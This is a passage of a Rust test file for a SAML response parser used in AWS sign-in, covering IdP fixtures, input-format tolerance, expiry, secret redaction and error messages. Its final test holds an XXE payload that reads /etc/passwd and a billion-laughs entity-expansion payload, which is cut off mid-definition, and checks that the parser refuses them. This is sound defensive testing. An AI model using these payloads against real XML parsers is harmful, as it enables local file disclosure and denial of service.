//! Fixture-driven tests of decoding and parsing, and the refusals that keep parsing safe.
//! Fixtures live in `tests/fixtures/saml/` and are embedded with `include_str!`.

use super::*;
use base64::Engine;
use std::time::Instant;
use time::macros::datetime;

macro_rules! fixture {
    ($name:literal) => {
        include_str!(concat!("../tests/fixtures/saml/", $name))
    };
}

const ADFS: &str = fixture!("adfs.xml");
const OKTA: &str = fixture!("okta.xml");
const ENTRA: &str = fixture!("entra.xml");
const GOOGLE: &str = fixture!("google.xml");
const KEYCLOAK: &str = fixture!("keycloak.xml");
const PING: &str = fixture!("ping.xml");
const AWS_CN: &str = fixture!("aws-cn.xml");
const AWS_US_GOV: &str = fixture!("aws-us-gov.xml");
const EXPIRED: &str = fixture!("expired.xml");
const ENCRYPTED: &str = fixture!("encrypted.xml");
const NO_ROLES: &str = fixture!("no-roles.xml");
const BAD_ROLES: &str = fixture!("bad-roles.xml");
const STATUS_RESPONDER: &str = fixture!("status-responder.xml");

const EXPECTED_MSG: &str = "expected base64 SAMLResponse, SAML XML or the IdP's HTML form page";
const AWS_ACS: &str = "https://signin.aws.amazon.com/saml";

fn b64(s: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn code_of(input: impl AsRef<[u8]>) -> Code {
    match parse_response(input.as_ref()) {
        Ok(a) => panic!("expected an error, parsed {a:?}"),
        Err(e) => {
            assert_one_line_no_secret(&e.message);
            e.code
        }
    }
}

fn error_of(input: impl AsRef<[u8]>) -> crate::error::Error {
    let e = parse_response(input.as_ref()).expect_err("expected an error");
    assert_one_line_no_secret(&e.message);
    e
}

/// Messages are one line and hold nothing that looks like base64 material.
fn assert_one_line_no_secret(m: &str) {
    assert!(!m.contains('\n') && !m.is_empty(), "{m:?}");
    let longest_run = m
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '='))
        .map(str::len)
        .max()
        .unwrap_or(0);
    assert!(
        longest_run < 48,
        "message looks like it holds encoded data: {m}"
    );
    assert!(m.len() < 600, "message too long: {m}");
}

struct Want {
    issuer: Option<&'static str>,
    subject: Option<&'static str>,
    session_name: Option<&'static str>,
    duration: Option<u64>,
    not_on_or_after: Option<OffsetDateTime>,
    destination: Option<&'static str>,
    recipient: Option<&'static str>,
    /// (partition, account, path, name, principal_arn)
    roles: &'static [(
        &'static str,
        &'static str,
        &'static str,
        &'static str,
        &'static str,
    )],
}

fn check(name: &str, a: &Assertion, w: &Want) {
    assert_eq!(a.issuer.as_deref(), w.issuer, "{name} issuer");
    assert_eq!(a.subject.as_deref(), w.subject, "{name} subject");
    assert_eq!(
        a.role_session_name.as_deref(),
        w.session_name,
        "{name} session name"
    );
    assert_eq!(a.session_duration, w.duration, "{name} duration");
    assert_eq!(
        a.not_on_or_after, w.not_on_or_after,
        "{name} not_on_or_after"
    );
    assert_eq!(
        a.destination.as_deref(),
        w.destination,
        "{name} destination"
    );
    assert_eq!(a.recipient.as_deref(), w.recipient, "{name} recipient");
    let got: Vec<Role> = a.roles.clone();
    let want: Vec<Role> = w
        .roles
        .iter()
        .map(|&(partition, account, path, name, principal)| Role {
            role_arn: format!("arn:{partition}:iam::{account}:role{path}{name}"),
            principal_arn: principal.to_string(),
            account: account.to_string(),
            name: name.to_string(),
            path: path.to_string(),
            partition: partition.to_string(),
        })
        .collect();
    assert_eq!(got, want, "{name} roles");
}

fn fixtures() -> Vec<(&'static str, &'static str, Want)> {
    vec![
        (
            "adfs",
            ADFS,
            Want {
                issuer: Some("http://adfs.corp.example.com/adfs/services/trust"),
                subject: Some("CORP\\jdoe"),
                session_name: Some("jdoe@corp.example.com"),
                duration: Some(28800),
                not_on_or_after: Some(datetime!(2099-03-14 09:31:53.812 UTC)),
                destination: Some(AWS_ACS),
                recipient: Some(AWS_ACS),
                roles: &[
                    (
                        "aws",
                        "123456789012",
                        "/",
                        "ADFS-Developer",
                        "arn:aws:iam::123456789012:saml-provider/ADFS",
                    ),
                    (
                        "aws",
                        "123456789012",
                        "/",
                        "ADFS-EcrPush",
                        "arn:aws:iam::123456789012:saml-provider/ADFS",
                    ),
                    (
                        "aws",
                        "210987654321",
                        "/",
                        "ADFS-ReadOnly",
                        "arn:aws:iam::210987654321:saml-provider/ADFS",
                    ),
                ],
            },
        ),
        (
            "okta",
            OKTA,
            Want {
                issuer: Some("http://www.okta.com/exk1a2b3c4d5E6F7g8h9"),
                subject: Some("jane.doe@corp.example.com"),
                session_name: Some("jane.doe@corp.example.com"),
                duration: Some(3600),
                not_on_or_after: Some(datetime!(2099-06-01 12:05:00.415 UTC)),
                destination: Some(AWS_ACS),
                recipient: Some(AWS_ACS),
                roles: &[
                    (
                        "aws",
                        "123456789012",
                        "/",
                        "Developer",
                        "arn:aws:iam::123456789012:saml-provider/Okta",
                    ),
                    (
                        "aws",
                        "123456789012",
                        "/",
                        "Admin",
                        "arn:aws:iam::123456789012:saml-provider/Okta",
                    ),
                    (
                        "aws",
                        "345678901234",
                        "/",
                        "Developer",
                        "arn:aws:iam::345678901234:saml-provider/Okta",
                    ),
                ],
            },
        ),
        (
            "entra",
            ENTRA,
            Want {
                issuer: Some("https://sts.windows.net/7d1e4b2a-0c3f-4e5d-8a9b-1c2d3e4f5a6b/"),
                subject: Some("alex.smith@corp.example.com"),
                session_name: Some("alex.smith@corp.example.com"),
                duration: Some(14400),
                not_on_or_after: Some(datetime!(2099-09-09 09:15:42.3937593 UTC)),
                destination: Some(AWS_ACS),
                recipient: Some(AWS_ACS),
                roles: &[
                    (
                        "aws",
                        "111122223333",
                        "/platform/ecr/",
                        "EcrPusher",
                        "arn:aws:iam::111122223333:saml-provider/AzureAD",
                    ),
                    (
                        "aws",
                        "111122223333",
                        "/",
                        "Developer",
                        "arn:aws:iam::111122223333:saml-provider/AzureAD",
                    ),
                    (
                        "aws",
                        "444455556666",
                        "/teams/payments/",
                        "Deployer",
                        "arn:aws:iam::444455556666:saml-provider/AzureAD",
                    ),
                ],
            },
        ),
        (
            "google",
            GOOGLE,
            Want {
                issuer: Some("https://accounts.google.com/o/saml2?idpid=C03abc123"),
                subject: Some("sam.lee@corp.example.com"),
                session_name: Some("sam.lee@corp.example.com"),
                duration: None,
                not_on_or_after: Some(datetime!(2099-02-02 16:45:11.072 UTC)),
                destination: Some(AWS_ACS),
                recipient: Some(AWS_ACS),
                roles: &[
                    (
                        "aws",
                        "555566667777",
                        "/",
                        "GoogleEcrAdmin",
                        "arn:aws:iam::555566667777:saml-provider/GoogleApps",
                    ),
                    (
                        "aws",
                        "555566667777",
                        "/ci/",
                        "GoogleCiReader",
                        "arn:aws:iam::555566667777:saml-provider/GoogleApps",
                    ),
                ],
            },
        ),
        (
            "keycloak",
            KEYCLOAK,
            Want {
                issuer: Some("https://sso.corp.example.com/realms/engineering"),
                subject: Some("G-5f0e1d2c-3b4a-4958-8776-a5b4c3d2e1f0"),
                session_name: Some("kim"),
                duration: None,
                // The earlier of SubjectConfirmationData (18:05) and Conditions (18:01).
                not_on_or_after: Some(datetime!(2099-12-24 18:01:00.123 UTC)),
                destination: Some(AWS_ACS),
                recipient: Some(AWS_ACS),
                roles: &[
                    (
                        "aws",
                        "777788889999",
                        "/",
                        "keycloak-developer",
                        "arn:aws:iam::777788889999:saml-provider/keycloak",
                    ),
                    (
                        "aws",
                        "777788889999",
                        "/",
                        "keycloak-ecr-pull",
                        "arn:aws:iam::777788889999:saml-provider/keycloak",
                    ),
                    (
                        "aws",
                        "888899990000",
                        "/",
                        "keycloak-admin",
                        "arn:aws:iam::888899990000:saml-provider/keycloak",
                    ),
                ],
            },
        ),
        (
            "ping",
            PING,
            Want {
                issuer: Some("https://pingfed.corp.example.com"),
                subject: Some("pat.jones"),
                session_name: Some("pat.jones"),
                duration: Some(43200),
                // the bearer confirmation, not the holder-of-key one listed first; -04:00 offset
                not_on_or_after: Some(datetime!(2099-07-04 14:35:00 UTC)),
                destination: Some(AWS_ACS),
                recipient: Some(AWS_ACS),
                // the `Ping&Broken` value is skipped
                roles: &[
                    (
                        "aws",
                        "999900001111",
                        "/",
                        "PingDeveloper",
                        "arn:aws:iam::999900001111:saml-provider/PingFederate",
                    ),
                    (
                        "aws",
                        "222200003333",
                        "/",
                        "PingEcr",
                        "arn:aws:iam::222200003333:saml-provider/PingFederate",
                    ),
                ],
            },
        ),
        (
            "aws-cn",
            AWS_CN,
            Want {
                issuer: Some("https://idp.corp.example.cn/saml2/idp"),
                subject: Some("_t9f8e7d6c5b4a"),
                session_name: Some("wang.wei"),
                duration: None,
                // no NotOnOrAfter on the confirmation: Conditions' is used
                not_on_or_after: Some(datetime!(2099-05-05 05:10:05 UTC)),
                destination: Some("https://signin.amazonaws.cn/saml"),
                recipient: Some("https://signin.amazonaws.cn/saml"),
                roles: &[(
                    "aws-cn",
                    "123412341234",
                    "/",
                    "CnEcrUser",
                    "arn:aws-cn:iam::123412341234:saml-provider/CorpIdP",
                )],
            },
        ),
        (
            "aws-us-gov",
            AWS_US_GOV,
            Want {
                issuer: Some("https://idp.agency.example.gov/idp/shibboleth"),
                subject: Some("AAdzZWNyZXQxQkZ1bGxOYW1lSWQ="),
                session_name: Some("chris.b"),
                // "8h" is not an integer: ignored
                duration: None,
                not_on_or_after: Some(datetime!(2099-08-08 20:05:00 UTC)),
                destination: Some("https://signin.amazonaws-us-gov.com/saml"),
                recipient: Some("https://signin.amazonaws-us-gov.com/saml"),
                roles: &[
                    (
                        "aws-us-gov",
                        "098765432109",
                        "/",
                        "GovEcrReader",
                        "arn:aws-us-gov:iam::098765432109:saml-provider/Shibboleth",
                    ),
                    (
                        "aws-us-gov",
                        "098765432109",
                        "/mission/",
                        "GovDeployer",
                        "arn:aws-us-gov:iam::098765432109:saml-provider/Shibboleth",
                    ),
                ],
            },
        ),
        (
            "expired",
            EXPIRED,
            Want {
                issuer: Some("urn:test:idp"),
                subject: Some("saml.user@example.com"),
                session_name: Some("saml.user"),
                duration: Some(900),
                not_on_or_after: Some(datetime!(2001-01-01 00:05:00 UTC)),
                destination: Some(AWS_ACS),
                recipient: Some(AWS_ACS),
                roles: &[(
                    "aws",
                    "123456789012",
                    "/",
                    "Developer",
                    "arn:aws:iam::123456789012:saml-provider/TestIdP",
                )],
            },
        ),
    ]
}

#[test]
fn every_xml_fixture_parses_exactly() {
    for (name, xml, want) in fixtures() {
        let a = parse_response(xml.as_bytes()).unwrap_or_else(|e| panic!("{name}: {e}"));
        check(name, &a, &want);
        assert_eq!(a.response_b64.expose(), b64(xml.trim()), "{name} base64");
    }
}

#[test]
fn every_fixture_parses_from_base64_too() {
    for (name, xml, want) in fixtures() {
        let a = parse_response(b64(xml).as_bytes()).unwrap_or_else(|e| panic!("{name}: {e}"));
        check(name, &a, &want);
        // the IdP's exact bytes go to STS
        assert_eq!(a.response_b64.expose(), b64(xml), "{name} base64");
    }
}

#[test]
fn encoded_fixtures_match_their_xml() {
    let cases: &[(&str, &str, &str)] = &[
        ("okta.b64", fixture!("okta.b64"), OKTA),
        (
            "google.form-urlencoded.txt",
            fixture!("google.form-urlencoded.txt"),
            GOOGLE,
        ),
        ("okta-form.html", fixture!("okta-form.html"), OKTA),
        ("adfs-form.html", fixture!("adfs-form.html"), ADFS),
        (
            "keycloak-form.html",
            fixture!("keycloak-form.html"),
            KEYCLOAK,
        ),
        ("entra-form.html", fixture!("entra-form.html"), ENTRA),
        (
            "shibboleth-form.html",
            fixture!("shibboleth-form.html"),
            AWS_US_GOV,
        ),
        ("unquoted-form.html", fixture!("unquoted-form.html"), AWS_CN),
        (
            "saml-idp-form.html",
            fixture!("saml-idp-form.html"),
            EXPIRED,
        ),
    ];
    let all = fixtures();
    for &(name, input, xml) in cases {
        let a = parse_response(input.as_bytes()).unwrap_or_else(|e| panic!("{name}: {e}"));
        let (_, _, want) = all.iter().find(|(_, x, _)| *x == xml).expect("fixture");
        check(name, &a, want);
        assert_eq!(a.response_b64.expose(), b64(xml), "{name} base64");
    }
}

#[test]
fn base64_shapes_are_tolerated() {
    let canonical = b64(OKTA);
    let wrapped_crlf = canonical
        .as_bytes()
        .chunks(64)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect::<Vec<_>>()
        .join("\r\n");
    let url_safe = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(OKTA);
    let pct = canonical
        .replace('+', "%2B")
        .replace('/', "%2F")
        .replace('=', "%3D");
    let pct_lower = canonical
        .replace('+', "%2b")
        .replace('/', "%2f")
        .replace('=', "%3d");
    let variants = [
        canonical.clone(),
        format!("  \n\t{canonical}\n\n"),
        wrapped_crlf.clone(),
        wrapped_crlf.replace("\r\n", "%0D%0A"),
        canonical.trim_end_matches('=').to_string(),
        url_safe,
        pct.clone(),
        pct_lower,
        format!("SAMLResponse={pct}"),
        format!("SAMLResponse={pct}&RelayState=https%3A%2F%2Fconsole.aws.amazon.com%2F"),
        format!("RelayState=abc&SAMLResponse={pct}\n"),
        format!("https://signin.aws.amazon.com/saml?SAMLResponse={pct}&RelayState="),
        format!("\"{canonical}\""),
        format!("\u{feff}{canonical}"),
    ];
    for (i, v) in variants.iter().enumerate() {
        let a = parse_response(v.as_bytes()).unwrap_or_else(|e| panic!("variant {i}: {e}"));
        assert_eq!(a.response_b64.expose(), canonical, "variant {i}");
        assert_eq!(a.roles.len(), 3, "variant {i}");
    }
}

#[test]
fn xml_shapes_are_tolerated() {
    let no_decl = OKTA.split_once("?>").unwrap().1;
    let variants = [
        OKTA.to_string(),
        format!("\u{feff}{OKTA}"),
        format!("\n\n  {OKTA}\n"),
        no_decl.to_string(),
        OKTA.replace('\n', "\r\n"),
        format!("<!-- saved from the browser -->\n{no_decl}"),
    ];
    for (i, v) in variants.iter().enumerate() {
        let a = parse_response(v.as_bytes()).unwrap_or_else(|e| panic!("variant {i}: {e}"));
        assert_eq!(a.roles.len(), 3, "variant {i}");
        // whatever was trimmed, STS gets a standard base64 of XML without BOM or leading space
        let xml = base64::engine::general_purpose::STANDARD
            .decode(a.response_b64.expose())
            .unwrap();
        assert!(xml.starts_with(b"<"), "variant {i}");
    }
}

#[test]
fn html_pages_in_many_styles() {
    let v = b64(KEYCLOAK);
    let esc = v
        .replace('+', "&#x2b;")
        .replace('=', "&#x3d;")
        .replace('/', "&#47;");
    let pages = [
        format!(r#"<form><input type="hidden" name="SAMLResponse" value="{v}"></form>"#),
        format!(r#"<form><input value='{esc}' type='hidden' name='SAMLResponse'/></form>"#),
        format!("<body><input\n  name=\"SAMLResponse\"\n  value=\"{esc}\"\n  type=\"hidden\"\n/></body>"),
        format!(r#"<html><input type=hidden name=SAMLResponse value={v}></html>"#),
        format!(r#"<div><input name="RelayState" value="x&amp;y"><input name="SAMLResponse" value="{}"></div>"#, v.replace('+', "&plus;")),
        format!(r#"<!DOCTYPE html><input type="hidden" name="SAMLResponse" value="">
            <input type="hidden" name="SAMLResponse" value="{v}">"#),
    ];
    for (i, p) in pages.iter().enumerate() {
        let a = parse_response(p.as_bytes()).unwrap_or_else(|e| panic!("page {i}: {e}"));
        assert_eq!(a.response_b64.expose(), v, "page {i}");
        assert_eq!(a.roles.len(), 3, "page {i}");
    }
}

#[test]
fn inspect_json_shape() {
    let a = parse_response(OKTA.as_bytes()).unwrap();
    let j = a.inspect_json();
    assert_eq!(
        j,
        serde_json::json!({
            "issuer": "http://www.okta.com/exk1a2b3c4d5E6F7g8h9",
            "subject": "jane.doe@corp.example.com",
            "role_session_name": "jane.doe@corp.example.com",
            "session_duration": 3600,
            "not_on_or_after": "2099-06-01T12:05:00.415Z",
            "destination": AWS_ACS,
            "recipient": AWS_ACS,
            "roles": [
                {"role_arn": "arn:aws:iam::123456789012:role/Developer", "principal_arn": "arn:aws:iam::123456789012:saml-provider/Okta",
                 "account": "123456789012", "name": "Developer", "partition": "aws", "path": "/"},
                {"role_arn": "arn:aws:iam::123456789012:role/Admin", "principal_arn": "arn:aws:iam::123456789012:saml-provider/Okta",
                 "account": "123456789012", "name": "Admin", "partition": "aws", "path": "/"},
                {"role_arn": "arn:aws:iam::345678901234:role/Developer", "principal_arn": "arn:aws:iam::345678901234:saml-provider/Okta",
                 "account": "345678901234", "name": "Developer", "partition": "aws", "path": "/"},
            ]
        })
    );
    // the documented key order (docs/ARCHITECTURE.md, "CLI"), extras after
    let keys: Vec<&str> = j.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(
        keys,
        [
            "issuer",
            "subject",
            "role_session_name",
            "session_duration",
            "not_on_or_after",
            "destination",
            "recipient",
            "roles"
        ]
    );
    let json = serde_json::to_string(&j).unwrap();
    assert!(!json.contains(a.response_b64.expose()));

    let keycloak = parse_response(PING.as_bytes()).unwrap().inspect_json();
    assert_eq!(keycloak["not_on_or_after"], "2099-07-04T14:35:00Z");
}

#[test]
fn inspect_json_nulls() {
    let xml = minimal(
        "",
        r#"<saml:AttributeStatement><saml:Attribute Name="https://aws.amazon.com/SAML/Attributes/Role"><saml:AttributeValue>arn:aws:iam::123456789012:role/R,arn:aws:iam::123456789012:saml-provider/P</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>"#,
    );
    let a = parse_response(xml.as_bytes()).unwrap();
    let j = a.inspect_json();
    for k in [
        "issuer",
        "subject",
        "role_session_name",
        "session_duration",
        "not_on_or_after",
        "destination",
        "recipient",
    ] {
        assert!(j[k].is_null(), "{k}: {j}");
    }
    assert_eq!(j["roles"][0]["name"], "R");
    assert!(a.check_not_expired(datetime!(2999-01-01 00:00 UTC)).is_ok());
}

#[test]
fn expiry() {
    let a = parse_response(EXPIRED.as_bytes()).unwrap();
    let e = a
        .check_not_expired(datetime!(2026-11-26 19:00 UTC))
        .unwrap_err();
    assert_eq!(e.code, Code::SamlExpired);
    assert!(e.message.contains("2001-01-01T00:05:00Z"), "{}", e.message);
    assert!(e.message.contains("sign in again"), "{}", e.message);
    assert_eq!(e.exit_code(), 3);

    let t = a.not_on_or_after.unwrap();
    assert_eq!(a.check_not_expired(t).unwrap_err().code, Code::SamlExpired);
    assert!(a
        .check_not_expired(t - time::Duration::nanoseconds(1))
        .is_ok());
    let e = a
        .check_not_expired(t + time::Duration::seconds(90))
        .unwrap_err();
    assert!(e.message.contains("90 s ago"), "{}", e.message);

    let okta = parse_response(OKTA.as_bytes()).unwrap();
    assert!(okta
        .check_not_expired(datetime!(2026-11-26 19:00 UTC))
        .is_ok());
    assert!(okta
        .check_not_expired(datetime!(2099-06-01 12:05:00.415 UTC))
        .is_err());
}

#[test]
fn debug_never_shows_the_response() {
    let a = parse_response(OKTA.as_bytes()).unwrap();
    let d = format!("{a:?}");
    assert!(d.contains("[redacted]"));
    assert!(!d.contains(&a.response_b64.expose()[..40]));
    assert!(!d.contains("<saml2"));
}

#[test]
fn garbage_is_saml_invalid_and_says_what_was_expected() {
    let mut rng = Rng(0x5eed);
    let random: Vec<u8> = (0..4096).map(|_| rng.next() as u8).collect();
    for input in [
        random,
        b"hello".to_vec(),
        b"hello world!".to_vec(),
        b"{\"SAMLResponse\": null}".to_vec(),
        b"<foo><bar/></foo>".to_vec(),
        b64("just some text, not XML").into_bytes(),
        b"\x00\x01\x02\xff".to_vec(),
        b"<".to_vec(),
        b"<<<>>>".to_vec(),
    ] {
        let e = error_of(&input);
        assert_eq!(e.code, Code::SamlInvalid, "{}", e.message);
        assert!(e.message.contains(EXPECTED_MSG), "{}", e.message);
    }
    for input in [
        "",
        "   \n\t ",
        "\u{feff}",
        "SAMLResponse=",
        "SAMLResponse=&RelayState=x",
    ] {
        let e = error_of(input);
        assert_eq!(e.code, Code::SamlInvalid, "{input:?}");
        assert!(e.message.contains("empty"), "{}", e.message);
    }
    let e = error_of(b"\xff\xfe<\x00?\x00x\x00");
    assert!(e.message.contains("UTF-16"), "{}", e.message);
}

#[test]
fn truncated_input_is_saml_invalid_with_a_reason() {
    let full = b64(OKTA);
    for cut in [4000, 4001, 4002, 4003, full.len() - 8] {
        let e = error_of(&full[..cut]);
        assert_eq!(e.code, Code::SamlInvalid, "cut {cut}: {}", e.message);
        assert!(e.message.contains("truncated"), "cut {cut}: {}", e.message);
    }
    for cut in [150, OKTA.len() / 2, OKTA.len() - 20] {
        let e = error_of(&OKTA.as_bytes()[..cut]);
        assert_eq!(e.code, Code::SamlInvalid, "cut {cut}: {}", e.message);
        assert!(e.message.contains("truncated"), "cut {cut}: {}", e.message);
    }
    // too little to tell it was SAML: the generic message
    let e = error_of(&OKTA[..10]);
    assert!(e.message.contains(EXPECTED_MSG), "{}", e.message);
    let e = error_of(OKTA.replace("</saml2:Subject>", "</saml2:Subjekt>"));
    assert_eq!(e.code, Code::SamlInvalid);
    assert!(
        e.message
            .contains("not well-formed (a closing tag does not match at line 1"),
        "{}",
        e.message
    );
    assert!(!e.message.contains("Subjekt"), "{}", e.message);
    // a padding sign in the middle
    let mut damaged = full.clone();
    damaged.replace_range(200..201, "=");
    assert_eq!(code_of(damaged), Code::SamlInvalid);
}

#[test]
fn html_without_a_response() {
    let e = error_of(fixture!("login-page.html"));
    assert_eq!(e.code, Code::SamlInvalid);
    assert!(
        e.message.contains("no SAMLResponse form field"),
        "{}",
        e.message
    );
    let e = error_of(fixture!("empty-form.html"));
    assert_eq!(e.code, Code::SamlInvalid);
    assert!(e.message.contains("empty"), "{}", e.message);
    // a commented-out field does not count
    let e = error_of("<html><!-- <input name=\"SAMLResponse\" value=\"PHg+\"> --></html>");
    assert!(
        e.message.contains("no SAMLResponse form field"),
        "{}",
        e.message
    );
    // a field whose value is not a response
    let e = error_of(format!(
        "<form><input name=SAMLResponse value=\"{}\"></form>",
        b64("<html/>")
    ));
    assert_eq!(e.code, Code::SamlInvalid);
    assert!(
        e.message.contains("root element is <html>"),
        "{}",
        e.message
    );
}

#[test]
fn wrong_documents() {
    let bare = OKTA
        .split_once("<saml2:Assertion ")
        .map(|(_, a)| format!("<saml2:Assertion {}", a.replace("</saml2p:Response>", "")))
        .unwrap();
    let e = error_of(bare);
    assert_eq!(e.code, Code::SamlInvalid);
    assert!(e.message.contains("bare saml:Assertion"), "{}", e.message);

    let saml11 = r#"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol" MajorVersion="1" MinorVersion="1"/>"#;
    assert!(error_of(saml11).message.contains("SAML 1.x"));

    // right names, wrong namespace: not a SAML response
    let wrong_ns = OKTA.replace(
        "urn:oasis:names:tc:SAML:2.0:protocol",
        "urn:example:protocol",
    );
    assert_eq!(code_of(wrong_ns), Code::SamlInvalid);

    let no_assertion = STATUS_RESPONDER.replace("status:Responder", "status:Success");
    let e = error_of(no_assertion);
    assert_eq!(e.code, Code::SamlInvalid);
    assert!(e.message.contains("no Assertion"), "{}", e.message);

    // an unparsable NotOnOrAfter is reported, not ignored
    let e = error_of(OKTA.replace(
        "NotOnOrAfter=\"2099-06-01T12:05:00.415Z\" Recipient",
        "NotOnOrAfter=\"soon\" Recipient",
    ));
    assert_eq!(e.code, Code::SamlInvalid);
    assert!(e.message.contains("NotOnOrAfter 'soon'"), "{}", e.message);
}

#[test]
fn non_success_status_names_the_code() {
    let e = error_of(STATUS_RESPONDER);
    assert_eq!(e.code, Code::SamlInvalid);
    assert!(
        e.message
            .contains("the IdP answered urn:oasis:names:tc:SAML:2.0:status:Responder"),
        "{}",
        e.message
    );
    assert!(e.message.contains("AuthnFailed"), "{}", e.message);
    assert!(
        e.message.contains("(User account is disabled)"),
        "{}",
        e.message
    );
    assert_eq!(code_of(b64(STATUS_RESPONDER)), Code::SamlInvalid);
}

#[test]
fn encrypted_assertions() {
    let e = error_of(ENCRYPTED);
    assert_eq!(e.code, Code::SamlEncrypted);
    assert!(
        e.message
            .contains("ask your IdP admin to turn off assertion encryption for the AWS app"),
        "{}",
        e.message
    );
    assert_eq!(code_of(b64(ENCRYPTED)), Code::SamlEncrypted);

    let xml = minimal(
        "",
        r#"<saml:AttributeStatement><saml:EncryptedAttribute><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"/></saml:EncryptedAttribute></saml:AttributeStatement>"#,
    );
    assert_eq!(code_of(xml), Code::SamlEncrypted);
}

#[test]
fn missing_or_invalid_roles() {
    let e = error_of(NO_ROLES);
    assert_eq!(e.code, Code::SamlNoRoles);
    assert!(
        e.message
            .contains("https://aws.amazon.com/SAML/Attributes/Role"),
        "{}",
        e.message
    );

    let e = error_of(BAD_ROLES);
    assert_eq!(e.code, Code::SamlNoRoles);
    assert!(
        e.message
            .contains("first value 'arn:aws:iam::123456789012:role/Developer'"),
        "{}",
        e.message
    );

    let empty = minimal("", &role_attr(&["", "  "]));
    assert!(error_of(empty).message.contains("Role attribute is empty"));

    let near = minimal(
        "",
        &role_attr(&[]).replace("Attributes/Role\"", "Attributes/role\""),
    );
    let e = error_of(near);
    assert_eq!(e.code, Code::SamlNoRoles);
    assert!(
        e.message
            .contains("found 'https://aws.amazon.com/SAML/Attributes/role'"),
        "{}",
        e.message
    );

    let long = format!("arn:aws:iam::123456789012:role/{}", "ab-".repeat(170));
    let e = error_of(minimal("", &role_attr(&[&long])));
    assert!(
        e.message.contains('…') && e.message.len() < 400,
        "{}",
        e.message
    );
}

#[test]
fn roles_across_statements_and_attributes_are_merged_and_deduplicated() {
    let r = |n: &str| {
        format!("arn:aws:iam::123456789012:role/{n},arn:aws:iam::123456789012:saml-provider/P")
    };
    let body = format!(
        "{}{}<saml:AttributeStatement><saml:Attribute Name=\"https://aws.amazon.com/SAML/Attributes/SessionDuration\"><saml:AttributeValue>7200</saml:AttributeValue><saml:AttributeValue>900</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>",
        role_attr(&[&r("A"), &r("B"), &r("A")]),
        role_attr(&[&r("C"), &r("B")]),
    );
    let a = parse_response(minimal("", &body).as_bytes()).unwrap();
    let names: Vec<&str> = a.roles.iter().map(|r| r.name.as_str()).collect();
    assert_eq!(names, ["A", "B", "C"]);
    assert_eq!(a.session_duration, Some(7200));
}

#[test]
fn session_duration_values() {
    for (v, want) in [
        ("3600", Some(3600)),
        (" 43200\n", Some(43200)),
        ("99999", Some(99999)),
        ("8h", None),
        ("-5", None),
        ("3600.0", None),
        ("", None),
    ] {
        let attr = format!(
            "<saml:Attribute Name=\"https://aws.amazon.com/SAML/Attributes/SessionDuration\"><saml:AttributeValue>{v}</saml:AttributeValue></saml:Attribute>"
        );
        let body = role_attr(&[
            "arn:aws:iam::123456789012:role/R,arn:aws:iam::123456789012:saml-provider/P",
        ])
        .replace(
            "</saml:AttributeStatement>",
            &format!("{attr}</saml:AttributeStatement>"),
        );
        let a = parse_response(minimal("", &body).as_bytes()).unwrap();
        assert_eq!(a.session_duration, want, "{v:?}");
    }
}

#[test]
fn first_assertion_wins() {
    let first = role_attr(&[
        "arn:aws:iam::111111111111:role/First,arn:aws:iam::111111111111:saml-provider/P",
    ]);
    let second = role_attr(&[
        "arn:aws:iam::222222222222:role/Second,arn:aws:iam::222222222222:saml-provider/P",
    ]);
    let xml = minimal("", &first).replace(
        "</samlp:Response>",
        &format!("<saml:Assertion>{second}</saml:Assertion></samlp:Response>"),
    );
    let a = parse_response(xml.as_bytes()).unwrap();
    assert_eq!(a.roles.len(), 1);
    assert_eq!(a.roles[0].name, "First");
}

#[test]
fn any_prefix_and_default_namespaces() {
    let pair = "arn:aws:iam::123456789012:role/R,arn:aws:iam::123456789012:saml-provider/P";
    for (open, close) in [
        ("<Response xmlns='urn:oasis:names:tc:SAML:2.0:protocol'><Assertion xmlns='urn:oasis:names:tc:SAML:2.0:assertion'>", "</Assertion></Response>"),
        ("<weird:Response xmlns:weird='urn:oasis:names:tc:SAML:2.0:protocol' xmlns='urn:oasis:names:tc:SAML:2.0:assertion'><Assertion>", "</Assertion></weird:Response>"),
        ("<p:Response xmlns:p='urn:oasis:names:tc:SAML:2.0:protocol'><p:Assertion xmlns:p='urn:oasis:names:tc:SAML:2.0:assertion'>", "</p:Assertion></p:Response>"),
    ] {
        let inner = format!(
            "<AttributeStatement xmlns='urn:oasis:names:tc:SAML:2.0:assertion'><Attribute Name='https://aws.amazon.com/SAML/Attributes/Role'><AttributeValue>{pair}</AttributeValue></Attribute></AttributeStatement>"
        );
        let xml = format!("{open}{inner}{close}");
        let a = parse_response(xml.as_bytes()).unwrap_or_else(|e| panic!("{open}: {e}"));
        assert_eq!(a.roles[0].name, "R");
    }
}

#[test]
fn dtds_are_refused() {
    let xxe = r#"<?xml version="1.0"?>
<!DOCTYPE samlp:Response [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&xxe;</saml:Issuer></samlp:Response>"#;
    let laughs = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
